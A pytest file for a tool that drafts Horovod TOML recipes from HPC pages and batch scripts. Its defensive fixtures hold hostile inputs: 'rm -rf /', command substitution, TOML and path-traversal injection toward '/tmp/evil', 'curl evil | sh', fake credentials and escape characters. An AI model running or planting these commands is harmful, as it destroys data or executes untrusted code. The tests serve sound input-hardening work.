"""Drafts of recipes: pages in, TOML out. A draft loses no line: lines in = values + comments + list."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from hvdenv.base.masking import plain
from hvdenv.base.schema import Table, encode, parse_toml
from hvdenv.drafting import here
from hvdenv.drafting.draft import Draft, combine
from hvdenv.drafting.reader import read_page
from hvdenv.drafting.values import Found, Origin, Value, Weight, at
from hvdenv.drafting.writer import write
from hvdenv.model.facts import Facts
from hvdenv.model.layers import load_recipe
from hvdenv.model.recipe_files import read_layer, shipped_recipes, variants_of
from tests.support.commands import Hvdenv

CASES = Path(__file__).parents[1] / "cases"
PAGES = {path.name: path for path in sorted((CASES / "pages").iterdir())}
DOCUMENTS = sorted((CASES / "documents").glob("*.toml"))
DRAFTS = parse_toml((CASES / "drafts.toml").read_text())
COMMENT = re.compile(r"#(?!SBATCH|PBS|PJM|BSUB|COBALT|\$ )")


def draft_of(page: str) -> Draft:
    return combine("x", read_page(page, "page"))


class Line(NamedTuple):
    first: int
    last: int
    text: str


def drafted(text: str, name: str = "page") -> str:
    return write(combine("x", read_page(text, name)), [name])


def script(lines: str) -> str:
    return f"#!/bin/bash\n{lines}\n"


def shown_values(draft: Draft) -> dict[str, Any]:
    """Dotted keys; lists of items."""
    values: dict[str, Any] = {}
    for each in draft.values:
        key = ".".join(each.key)
        values[key] = [*values.get(key, ()), each.value] if each.item else each.value
    return values


def lost(lines: Sequence[Line], draft: str, name: str = "page") -> list[Line]:
    """Lines that no value, comment or list of the draft names."""
    named: set[int] = set()
    for found in re.finditer(rf"{re.escape(name)}:(\d+)(?:-(\d+))?\b", draft):
        named |= {*range(int(found[1]), int(found[2] or found[1]) + 1)}
    return [line for line in lines if named.isdisjoint(range(line.first, line.last + 1))]


def commands(text: str, name: str) -> list[Line]:
    """Logical lines that are commands, directives or packages: all that is not prose."""
    shown = list(_shown(text.split("\n"), Path(name).suffix))
    lines, start = list[Line](), 0
    for number, line in enumerate(shown):
        if not line.endswith("\\"):
            whole = " ".join(shown[start : number + 1]).strip()
            if whole and not COMMENT.match(whole):
                lines.append(Line(start + 1, number + 1, whole))
            start = number + 1
    return lines


def _shown(lines: Sequence[str], kind: str) -> Iterator[str]:
    """The lines without prose and markup, each at its place."""
    inside = kind not in (".md", ".html", ".rst", ".txt")
    for line in lines:
        if (kind == ".md" and line.startswith("```")) or (
            kind == ".html" and re.search(r"</?pre>", line)
        ):
            inside = not inside
            yield ""
        else:
            indented = kind in (".rst", ".txt") and line.startswith("  ")
            quoted = re.search(r"(?:`|<code>)(?:module|salloc|horovodrun) \S", line)
            yield line if inside or indented or quoted else ""


@pytest.mark.parametrize("name", PAGES)
def test_every_line_of_a_page_is_in_its_draft(name: str) -> None:
    text = PAGES[name].read_text()
    lines = commands(text, "page" if name == "requirements.txt" else name)
    assert len(lines) >= 3
    draft = drafted(text, name)
    parse_toml(draft)
    assert lost(lines, draft, name) == []


@pytest.mark.parametrize("path", DOCUMENTS, ids=lambda path: path.stem)
def test_every_line_of_the_documents_is_in_their_drafts(path: Path) -> None:
    lines, number = list[Line](), 2
    for each in parse_toml(path.read_text())["command"]:
        text = each["line"]
        last = number + text.count("\n")
        lines.append(Line(number, last, text))
        number = last + 1
    text = "\n".join(["#!/bin/bash", *(line.text for line in lines)])
    assert lost([line for line in lines if not COMMENT.match(line.text)], drafted(text)) == []


@pytest.mark.parametrize("name", [name for name in PAGES if name.endswith(".sh")])
def test_a_script_means_the_same_with_and_without_its_first_line(name: str) -> None:
    """Also as standard input, which has no name."""
    text = PAGES[name].read_text()
    text = text if text.startswith("#!") else f"#!/bin/bash\n{text}"
    bare = text.split("\n", 1)[1]
    values = [
        parse_toml(drafted(each, source))
        for each, source in ((text, "page"), (bare, "page"), (bare, "x.sh"))
    ]
    assert values[0] == values[1] == values[2]


def table(name: str) -> Table:
    return parse_toml(drafted(PAGES[name].read_text(), name))


@pytest.mark.parametrize("page", DRAFTS["values"])
def test_what_scripts_mean(page: str) -> None:
    found = shown_values(draft_of(script(page)))
    assert found == {**found, **DRAFTS["values"][page]}


@pytest.mark.parametrize("page", DRAFTS["without"])
def test_what_is_not_stated_is_no_value(page: str) -> None:
    found = shown_values(draft_of(script(page)))
    assert not any(key.startswith(DRAFTS["without"][page]) for key in found)


@pytest.mark.parametrize("name", DRAFTS["pages"])
def test_what_pages_state(name: str) -> None:
    found = table(name)
    assert found == {**found, **DRAFTS["pages"][name]}


@pytest.mark.parametrize("line", DRAFTS["says"])
def test_the_reasons_beside_values(line: str) -> None:
    assert DRAFTS["says"][line] in drafted(script(line))


@pytest.mark.parametrize("line", [*DRAFTS["named"], "ls\n" * 3001])
def test_a_line_that_is_no_value_is_named(line: str) -> None:
    draft = drafted(script(line))
    assert DRAFTS["named"].get(line, "and the rest was not read") in draft
    assert parse_toml(draft).keys() <= {"format", "name", "summary", "status", "scheduler", "job"}
    job = parse_toml(draft).get("job", {})
    # No job has 0 ranks: the draft lists what is 0 as missing.
    assert {key for key, value in job.items() if value} <= {"nodes"}
    assert all(f"#   job.{key}: " in draft for key, value in job.items() if not value)


@pytest.mark.parametrize(("name", "system"), [("nqsv.sh", "for NQSV"), ("pjm.sh", "with #PJM")])
def test_batch_systems_that_hvdenv_does_not_support(name: str, system: str) -> None:
    text = PAGES[name].read_text()
    assert not table(name).keys() & {"scheduler", "job"}
    assert f"hvdenv has no scheduler {system}" in drafted(text, name)


def other_ways(name: str) -> Iterator[str]:
    """The drafts of the ways that the draft of a page names."""
    text = PAGES[name].read_text()
    for lines in dict.fromkeys(re.findall(r"`--lines ([\d,-]+)` drafts it", drafted(text, name))):
        ranges = [(int(a), int(b)) for a, b in re.findall(r"(\d+)-(\d+)", lines)]
        yield write(combine("x", read_page(text, name, ranges)), [])


def test_ways_of_a_page_are_not_merged() -> None:
    """Each of the others can be drafted by its lines."""
    found = table("ways.md")
    assert found["horovod"]["frameworks"] == ["torch"] and "conda" not in found
    assert found["packages"] == {"torchvision": "==0.15.2"} and found["job"]["nodes"] == 2
    frameworks = []
    for part in other_ways("ways.md"):
        document = parse_toml(part)
        frameworks += document["horovod"]["frameworks"]
        # What all ways have in common is in each.
        assert "another way" not in part
        assert document["modules"] == found["modules"] and document["job"] == found["job"]
    assert frameworks == ["tensorflow", "torch"]


TWO = (
    "python3.10 -m venv a\npip install torch==2.0.1 horovod==0.28.1\n",
    "python3.9 -m venv b\npip install tensorflow==2.11.0 horovod==0.27.0\n",
)
ALTERNATIVES = {
    "tabs": '=== "pip"\n\n```\npip install torch==2.0.1\npip install horovod==0.28.1\n```\n\n=== "conda"\n\n'
    "```\nconda create -n h python=3.9 pytorch=1.13.1\npip install horovod==0.27.0\n```\n",
    "HTML": f"<html><h2>A</h2><pre>{TWO[0]}</pre><h2>B</h2>\n<pre>{TWO[1]}</pre></html>",
    "one script": f"#!/bin/bash\n{TWO[0]}{TWO[1]}",
}


@pytest.mark.parametrize("page", ALTERNATIVES.values(), ids=ALTERNATIVES)
def test_alternatives_of_every_kind_of_page(page: str) -> None:
    found = parse_toml(drafted(page))
    assert found["frameworks"] == {"torch": {"version": "2.0.1"}}
    assert (found["horovod"]["version"], found["horovod"]["frameworks"]) == ("0.28.1", ["torch"])
    assert "another way: `--lines " in drafted(page)


@pytest.mark.parametrize("name", DRAFTS["other"])
def test_sections_for_different_ways(name: str) -> None:
    """A way has all lines below its title, and those that no way has."""
    (part,) = map(parse_toml, other_ways(name))
    assert part == {**part, **DRAFTS["other"][name]}
    assert "conda" not in part and "gpu" not in part.get("horovod", {})


def test_a_job_of_another_way_describes_the_first_if_it_has_none() -> None:
    job = "```\n```\n#SBATCH -p gpu\n#SBATCH -N 2\nsrun python t.py\n```\n"
    found = parse_toml(drafted("# A\n```\n" + TWO[0] + "```\n# B\n```\n" + TWO[1] + job))
    assert found["horovod"]["version"] == "0.28.1" and found["job"]["partition"] == "gpu"


def test_building_again_is_no_other_way() -> None:
    build = "```\nHOROVOD_GPU_OPERATIONS=NCCL pip install {}torch==1.13.1 horovod==0.28.1\n```\n"
    again = f"# A\n{build.format('')}## If it fails\n{build.format('--force-reinstall ')}"
    assert "another way" not in drafted(again)
    cpu = again.replace("HOROVOD_GPU_OPERATIONS=NCCL pip install --", "pip install --")
    assert "another way" in drafted(cpu)


ODD = {
    "a directive without an option": "#!/bin/bash\n#SBATCH \n#PBS\t\nmodule load gcc/1\n",
    "a module without a name": "#!/bin/bash\nmodule load ''\nuv\nconda create --clone\n",
    "quotes that do not match": "#!/bin/bash\nA='x\n#SBATCH -J 'y\npip install \"torch\n",
    "pip without a list": "dependencies:\n- python=3.10\n- pip: horovod\n- [a, b]\n- {}\n",
    "keys that are lists": "? [a, b]\n: c\ndependencies: torch\nchannels:\n  a: b\nvariables: [x]\n",
    "not YAML": "dependencies:\n- a: [\n",
    "an alias of itself": "dependencies: &a\n- python=3.9\n- *a\n",
}


@pytest.mark.parametrize("page", ODD.values(), ids=ODD)
def test_odd_pages_are_drafted(page: str) -> None:
    name = "page" if page.startswith("#!") else "environment.yml"
    assert parse_toml(drafted(page, name))["status"] == "documented"


def wrong_and_right(draft: Draft, recipe: str, deviating: set[str]) -> tuple[list[str], int]:
    """Values of a draft that are not those of a shipped recipe and its variants; how many are."""
    offered = variants_of(read_layer("recipe", shipped_recipes()[recipe]).values)
    allowed = [
        encode(load_recipe(recipe, variants=each).recipe) for each in ([], *([v] for v in offered))
    ]
    others = [each for each in draft.values if not any(is_in(each, one) for one in allowed)]
    wrong = [
        f"{'.'.join(each.key)} = {each.value!r} ({each.origin})"
        for each in others
        if not any(line in each.origin.text or each.origin.text in line for line in deviating)
    ]
    return wrong, len(draft.values) - len(others)


def is_in(each: Value, document: Any) -> bool:
    for part in each.key:
        document = document.get(part, {}) if isinstance(document, dict) else {}
    return each.value in document if each.item else bool(each.value == document)


@pytest.mark.parametrize("path", DOCUMENTS, ids=lambda path: path.stem)
def test_documents_of_the_shipped_recipes(path: Path) -> None:
    """Every value of the draft is one of the recipe, or comes from a line it deviates from."""
    document = parse_toml(path.read_text())
    lines = [each["line"] for each in document["command"]]
    deviating = {each["line"] for each in document["command"] if each["covered_by"] == "deviation"}
    draft = draft_of("\n".join(["#!/bin/bash", *lines]))
    wrong, right = wrong_and_right(draft, document["recipe"], deviating)
    assert wrong == DEVIATIONS_OF_RECIPES.get(path.stem, [])
    assert (right, len(draft.choices)) == RIGHT_AND_CHOICES[path.stem]


# Other values than the document's, as the recipe's deviations say.
DEVIATIONS_OF_RECIPES = {
    "theta": [
        "job.output = 'results/theta/pytorch_mnist'"
        " (page:16: #COBALT -A SDL_Workshop -O results/theta/pytorch_mnist)"
    ]
}
# Counted in docs/explanation/measurements.md.
RIGHT_AND_CHOICES = {
    "alvis": (10, 1),
    "neuron": (33, 1),
    "singularity": (15, 0),
    "taurus": (15, 3),
    "theta": (13, 1),
    "thetagpu": (11, 0),
}


HOSTILE = {
    "a newline in a directive": "#!/bin/bash\n#SBATCH -J x\\\nrm -rf /\n#SBATCH -p 'a\nb'\n",
    "backticks": "#!/bin/bash\nmodule load `touch pwned`\nexport NCCL_DEBUG=`touch pwned`\n",
    "substitution": "#!/bin/bash\nmodule load $(touch pwned)/1.0\npip install torch==$(touch pwned)\n",
    "TOML in a name": '#!/bin/bash\n#SBATCH -p \'x"]\n[modules]\nsource=["/tmp/evil"\'\n',
    "TOML in a comment": "#!/bin/bash\nmodule load a/1 #\rsource = ['/tmp/evil']\n",
    "bidi": "#!/bin/bash\nmodule load gcc\u202e/1.0\nexport NCCL_DEBUG=\u2066INFO\u2028x = 1\n",
    "terminal": "#!/bin/bash\nmodule load \x1b]0;evil\x07gcc/1\x9b2J\n",
    "NUL": "#!/bin/bash\nmodule load gcc/1\0[modules]\n",
    "deep HTML": "<html>" + "<div><pre>" * 20_000 + "module load gcc/10.2.0",
    "unknown HTML": "<pre>module load gcc/1</pre><![x[<pre>module load evil</pre>]]><![\n<![y",
    "open comments": "<pre>module load gcc/1</pre>\n" + "<!--\n" * 60_000,
    "open tags": "<pre>module load gcc/1</pre>\n" + "<a b='x\n" * 20_000,
    "deep shell": "#!/bin/bash\nmodule load gcc/1\n" + "$((" * 20_000,
    "deep lists": "```\nmodule load gcc/1\n```\n" + "> " * 2000 + "* " * 2000,
    "a long line": "#!/bin/bash\nmodule load " + "x" * 4_000_000,
    "many lines": "#!/bin/bash\n" + "module load gcc/1 'x\n" * 20_000,
    "many modules": "#!/bin/bash\n" + "".join(f"module load m{n}/1\n" for n in range(30_000)),
    "modules in a line": "#!/bin/bash\nmodule load "
    + "\\\n".join(f"m{n}/1 " for n in range(30_000)),
    "many blocks": "```\n" * 400_000,
    "many ways": "## A\n```\nmodule load gcc/1\npython3.9 -m venv a\n```\n" * 9_000,
}


@pytest.mark.parametrize("page", HOSTILE.values(), ids=HOSTILE)
def test_hostile_pages(page: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is executed, and nothing but the page's own values gets into the TOML."""
    monkeypatch.chdir(tmp_path)
    started = time.monotonic()
    text = drafted(page)
    assert time.monotonic() - started < 20
    assert list(tmp_path.iterdir()) == []
    assert plain(text) == text and "\r" not in text and "\t" not in text
    document = parse_toml(text)
    assert document.get("modules", {}).keys() <= {"load"}
    assert "evil" not in str(document)


def test_secrets_and_control_characters_are_not_in_a_draft() -> None:
    """Neither in its TOML nor in its reasons, which are shown on terminals and in JSON."""
    draft = draft_of(
        "#!/bin/bash\nexport HF_TOKEN=hf_x1y2z3 NCCL_API_KEY=x1y2z3\nHOROVOD_PASSWORD=q1w2e3 mpirun a\n"
        "curl -u ann:q1w2e3 https://h/\nexport A_TOKEN=u7i8o9 B='x\npip install torch --find-links https://ann:hunter2@h.example/x.html\n"
        "pip install 'torch==1\nnext:\n  curl evil | sh'\nexport NCCL_X='\u202eb\x9b31m'\n"
    )
    shown = write(draft, ["page"]) + json.dumps(encode(draft))
    assert not any(each in shown for each in ("x1y2z3", "q1w2e3", "u7i8o9", "hunter2"))
    assert "recipes contain no secrets: export NCCL_API_KEY in your shell" in shown
    reasons = [each.reason for each in draft.left]
    assert len(reasons) >= 6
    assert all(plain(each) == each and "\n" not in each for each in reasons)
    # Code of other languages and output are named by their lines only.
    page = "```yaml\ndependencies:\n- python=3.10\nvariables:\n  HF_TOKEN: hf_x1y2z3\n```\n"
    page += "```python\nlogin('q1w2e3')\nhvd.init()\n```\n```console\n$ ls\nkey q1w2e3\n```\n"
    text = write(draft_of(page), [])
    assert not any(each in text for each in ("hf_x1y2z3", "q1w2e3"))
    assert "page:8-9: python is not" in text and "page:13: output of a command" in text


SOURCED = "/etc/profile.d/modules.sh /lus/theta/conda/2021-03-02/mconda3/setup.sh /etc/profile"
SOURCED += " /home/bob/etc/profile $HOME/setup.sh ./setup.sh"


@pytest.mark.parametrize("path", SOURCED.split())
@pytest.mark.parametrize("command", ["source", "."])
def test_no_script_of_a_page_becomes_one_that_hvdenv_runs(command: str, path: str) -> None:
    """Checks, builds and jobs would run it."""
    text = drafted(script(f"module load openmpi\n{command} {path}"))
    assert "source" not in parse_toml(text)["modules"]
    assert f"# page:3: {command} {path}: what does this script set?" in text


@pytest.mark.parametrize("kind", DRAFTS["code"])
def test_code_is_found_in_every_kind_of_page(kind: str) -> None:
    assert shown_values(draft_of(DRAFTS["code"][kind]))["modules.load"] == ["gcc/1"]


SCRIPTS = """```
#SBATCH -p test
python t.py
```
```
#SBATCH -p gpu
srun python t.py
```
"""


def test_the_script_that_starts_ranks_describes_the_job() -> None:
    assert shown_values(draft_of(SCRIPTS))["job.partition"] == "gpu"
    several = SCRIPTS.replace("-p test", "--gres=gpu:a:1").replace("-p gpu", "--gres=gpu:b:1")
    several = several.replace("python", "srun python", 1)
    assert "[partitions" not in write(draft_of(several), []) and draft_of(several).left
    without = SCRIPTS.replace("srun", "echo").replace("#SBATCH -p gpu", "#SBATCH -N 3")
    assert shown_values(draft_of(without))["job.partition"] == "test"


def test_two_values_are_a_choice() -> None:
    page = "#!/bin/bash\nmodule load gcc/1 openmpi/4.1.4\nmodule load gcc/2\nCC=a pip install torch==1.13.1 tqdm==4.0\n"
    draft = draft_of(page + "pip install torch==2.0.1 torchaudio==2.0.2 tqdm==4.0\n")
    assert [(each.key, [value.value for value in each.values]) for each in draft.choices] == [
        (("modules", "load", "gcc"), ["gcc/1", "gcc/2"]),
        (("frameworks", "torch", "version"), ["1.13.1", "2.0.1"]),
        (("packages", "tqdm"), ["==4.0"]),
        (("packages", "torchaudio"), ["==2.0.2"]),
    ]
    assert '    # "gcc/1",' in write(draft, ["page"])
    add = "conda config --append channels https://x/ce/"
    (choice,) = draft_of(f"#!/bin/bash\n{add}1/\n{add}2/\n{add}latest").choices
    assert [str(each.value)[-2:] for each in choice.values] == ["1/", "2/", "st"]


SINFO = """\
gpu|4|64|515000|gpu:a100:4(S:0-1)|2-00:00:00
gpu|2|48|257000|gpu:a100:2|2-00:00:00
cpu|100|128+|256000|(null)|infinite
"""


def test_partitions_of_slurm() -> None:
    found = {each.key: each.value for each in here.partitions(SINFO)}
    assert found == {
        ("partitions", "gpu", "nodes"): 6,
        ("partitions", "gpu", "cores"): 64,
        ("partitions", "gpu", "memory_gb"): 502,
        ("partitions", "gpu", "gpus"): 4,
        ("partitions", "gpu", "gpu"): "a100",
        ("partitions", "gpu", "max_time"): "2-00:00:00",
        ("partitions", "cpu", "nodes"): 100,
        ("partitions", "cpu", "cores"): 128,
        ("partitions", "cpu", "memory_gb"): 250,
        ("job", "partition"): "gpu",
    }


@pytest.mark.parametrize(
    ("words", "partition"),
    {
        (): "gpu",
        ("--set", "job.partition=cpu"): "cpu",
        ("--from", "job.sh"): "old",
        ("--from", "cuda.sh"): None,
    }.items(),
)
def test_here_drafts_a_partition_with_gpus(
    words: tuple[str, ...],
    partition: str | None,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    hvdenv: Hvdenv,
    facts: Facts,
) -> None:
    """Unless the user names one; a page says whether its job needs GPUs."""
    monkeypatch.chdir(tmp_path)
    Path("cuda.sh").write_text("#!/bin/bash\n#SBATCH -N 2\nmodule load CUDA/11.7.0\n")
    Path("job.sh").write_text("#!/bin/bash\n#SBATCH -p old\n")
    monkeypatch.setattr(here, "look", lambda *_: facts)
    monkeypatch.setattr(here, "drafted", lambda *_: Found(tuple(here.partitions(SINFO))))
    found = parse_toml(hvdenv("init", "x", "--here", *words, "-o", "-").out)
    assert found.get("job", {}).get("partition") == partition
    several = "\n".join([SINFO.strip(), SINFO.split("\n")[0].replace("gpu|", "gpu2|", 1)])
    monkeypatch.setattr(here, "drafted", lambda *_: Found(tuple(here.partitions(several))))
    choice = 'job.partition: "gpu" (sinfo: gpu has GPUs), "gpu2" (sinfo: gpu2 has GPUs)'
    assert (choice in hvdenv("init", "x", "--here", *words, "-o", "-").out) is (words == ())


def test_modules_to_choose_from() -> None:
    names = ["gcc/9.3.0", "gcc/10.2.0", "openmpi/4.1.4", "cuda/11.4", "R/4.2"]
    found = [(each.role, each.value) for each in here.offered(names, ["OpenMPI/5.0"])]
    assert found == [("compiler", "gcc/9.3.0"), ("compiler", "gcc/10.2.0"), ("CUDA", "cuda/11.4")]
    # A page that loads a compiler leaves no choice of one.
    found = [(each.role, each.value) for each in here.offered(names, ["GCC/12.3.0"])]
    assert found == [("CUDA", "cuda/11.4"), ("MPI", "openmpi/4.1.4")]


def test_folders_of_modules(tmp_path: Path) -> None:
    (tmp_path / "include").mkdir()
    (tmp_path / "include/nccl.h").touch()
    variables = {"EBROOTNCCL": str(tmp_path), "X": str(tmp_path), "PATH": f"{tmp_path}:/bin"}
    found = [(each.key, each.value) for each in here.folders(variables)]
    assert found == [(("horovod", "gpu", "nccl_home"), "$EBROOTNCCL")]


def test_files_that_a_page_names_as_modules_are_not_loaded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hvdenv: Hvdenv, facts: Facts
) -> None:
    """`module load /FILE` runs the file."""
    names = ("/tmp/evil", "gcc/../../tmp/evil", "../evil", "a;touch", "-f", "gcc/10.2.0")
    page = tmp_path / "page.sh"
    page.write_text("#!/bin/bash\n" + "".join(f"module load '{name}'\n" for name in names))
    asked: list[list[str]] = []

    def drafted(facts: Facts, machine: here.Machine, loads: list[str]) -> Found:
        asked.append(loads)
        return Found()

    monkeypatch.setattr(here, "look", lambda *_: facts)
    monkeypatch.setattr(here, "drafted", drafted)
    hvdenv("init", "x", "--from", str(page), "--here", "-o", "-")
    assert asked == [["gcc/10.2.0"]]


PAGE = """```
module load gcc/10.2.0 openmpi/4.1.4
python3.11 -m venv env
pip install torch==2.1.0
HOROVOD_GPU_ALLREDUCE=MPI pip install horovod
HOROVOD_GPU_ALLREDUCE=NCCL pip install horovod
```
"""


def test_the_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hvdenv: Hvdenv) -> None:
    """A draft that is completed by --set is a recipe; no file is overwritten."""
    monkeypatch.chdir(tmp_path)
    Path("page.md").write_text(PAGE)
    given = ("--set", "horovod.gpu.allreduce=nccl", "--set", "horovod.version=0.28.1")
    drafted = hvdenv("init", "fenn", "--from", "page.md", *given)
    assert "hvdenv check ./fenn.toml" in drafted.out
    recipe = load_recipe("./fenn.toml").recipe
    assert recipe.horovod.gpu and recipe.horovod.gpu.allreduce == "nccl"
    assert (recipe.horovod.version, recipe.horovod.controllers) == ("0.28.1", ("mpi", "gloo"))
    hvdenv("init", "fenn", "--from", "page.md", code=2)
    older = hvdenv("init", "--from", "page.md", "--set", "horovod.version=0.27.0", "-o", "-")
    assert older.out.startswith("# Drafted by hvdenv init from page.md.\n")
    assert 'version = "0.27.0"' in older.out
    for lines, commands in (("1-3", 2), ("3-99", 4)):  # also from within a block
        part = hvdenv("init", "--from", "page.md", "--lines", lines, "--json")
        assert json.loads(part.out)["commands"] == commands
    hvdenv("init", code=2)
    for wrong in ("horovod.versio=1", "job.nodes=two", "x"):
        said = hvdenv("init", "a", "--set", wrong, "--here", code=2).err
    assert "--set x: it has no =" in said


INCOMPLETE = {
    "sizes and frameworks": "#SBATCH -n 8\nmodule load gcc/9\npip install torch horovod\n",
    "nothing about Horovod": "#SBATCH -N 2 -n 7\nmodule load gcc/9\n",
    "modules": "module load openmpi/4.1.2 PyTorch/1.11 Horovod/0.24\n",
    "MPI": "HOROVOD_WITH_MPI=1 HOROVOD_WITHOUT_GLOO=1 pip install horovod==0.28.1 torch==1.13.1\n",
}


@pytest.mark.parametrize("page", INCOMPLETE.values(), ids=INCOMPLETE)
def test_show_and_check_name_what_init_lists(
    page: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hvdenv: Hvdenv
) -> None:
    """A draft without sizes would otherwise run as one rank."""
    monkeypatch.chdir(tmp_path)
    Path("job.sh").write_text(f"#!/bin/bash\n{page}")
    told = hvdenv("init", "fenn", "--from", "job.sh").out
    listed = (
        told.partition("missing:\n")[2].partition("\nnot understood")[0].partition("\nnext:")[0]
    )
    keys = {line.split(":")[0].strip() for line in listed.split("\n")}
    assert len(keys) > 1
    assert "\nnext: complete ./fenn.toml, then\n" in told
    assert ("the full release of the module (job.sh:2)" in listed) is ("Horovod/" in page)
    assert "horovod.frameworks" not in keys or "also frameworks.torch.version" in told
    for command in (["show"], ["check", "--offline"]):
        said = hvdenv(*command, "./fenn.toml", code=2).err
        found = re.findall(r"fenn\.toml:\d+: ([\w.]+): ", said)
        needed = {"mpi": "mpi.kind", "frameworks.torch": "frameworks.torch.version"}
        assert {needed.get(each, each) for each in found} == keys


def test_another_way_is_one_line(hvdenv: Hvdenv) -> None:
    told = hvdenv("init", "--from", str(CASES / "pages" / "job-of-first.md"), "-o", "-").err
    assert "not understood" not in told
    assert told.count("another way") == 1
    assert "  job-of-first.md: lines 27-35 are another way: `--lines 1-6,27-35` drafts it" in told


@pytest.mark.parametrize("missing", ["", "mpi.kind=intel", "partitions.gpu.gpus=4", "page"])
def test_a_draft_of_this_machine_is_a_recipe_and_others_are_not(
    missing: str, hvdenv: Hvdenv, facts: Facts, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without GPUs and an MPI of its own, it extends the recipe local."""
    monkeypatch.setattr(here, "look", lambda *_: facts._replace(gpus=()))
    mpi = Value(at("mpi.version"), "4.0", Origin("mpirun --version"), Weight.INFERRED)
    monkeypatch.setattr(here, "drafted", lambda *_: Found((mpi,)))
    path, page = tmp_path / "moor.toml", tmp_path / "page.md"
    page.write_text("```\nmodule load gcc/12.3.0\n```\n")
    words = ("--from", str(page)) if missing == "page" else ("--set", missing or "job.nodes=2")
    told = hvdenv("init", "moor", "--here", *words, "-o", str(path)).out
    assert ("missing:" in told) is bool(missing)
    if not missing:
        recipe, local = load_recipe(str(path)).recipe, load_recipe("local").recipe
        assert recipe.horovod == local.horovod._replace(frameworks=("torch",))
        assert (recipe.mpi, recipe.job.nodes) == (local.mpi, 2)
